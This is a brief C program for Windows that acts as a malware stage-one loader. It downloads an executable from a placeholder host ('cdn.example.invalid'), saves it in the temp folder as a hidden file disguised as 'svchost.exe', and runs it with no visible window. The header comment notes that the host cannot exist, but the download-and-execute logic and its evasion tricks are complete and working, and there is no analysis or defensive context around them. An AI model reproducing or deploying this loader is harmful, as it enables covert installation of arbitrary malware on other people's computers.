/* Downloads from a name that cannot exist, saves and starts what came. libs: -lwininet -lshell32 */
#include <windows.h>
#include <wininet.h>
int main(void) {
    char path[MAX_PATH], buffer[1024];
    DWORD got, written;
    HINTERNET net = InternetOpenA("Mozilla/5.0", 0, NULL, NULL, 0);
    HINTERNET page = InternetOpenUrlA(net, "http://cdn.example.invalid/stage/two.exe", NULL, 0, INTERNET_FLAG_RELOAD, 0);
    if (!page) return 1;
    GetTempPathA(sizeof path, path);
    lstrcatA(path, "svchost.exe");
    HANDLE file = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_HIDDEN, NULL);
    while (InternetReadFile(page, buffer, sizeof buffer, &got) && got) WriteFile(file, buffer, got, &written, NULL);
    CloseHandle(file);
    ShellExecuteA(NULL, "open", path, NULL, NULL, SW_HIDE);
    return 0;
}
